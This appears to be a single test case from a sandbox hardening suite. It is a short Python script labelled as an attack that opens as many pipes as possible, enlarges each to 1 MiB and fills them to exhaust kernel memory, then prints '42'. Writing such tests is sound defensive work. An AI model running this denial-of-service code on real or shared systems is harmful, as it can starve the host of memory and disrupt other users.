# /// case
# attack = "Holds memory in the kernel: as many pipes as it may have, each as large as it may be, all full."
# passes = "either"
# ///
import fcntl, os
pipes = []
try:
    while True:
        pipes.append(os.pipe())
except OSError:
    pass
for _, end in pipes:
    os.set_blocking(end, False)
    try:
        fcntl.fcntl(end, 1031, 1 << 20)
    except OSError:
        pass
    try:
        while True:
            os.write(end, bytes(65536))
    except OSError:
        pass
os.write(1, b"42\n")
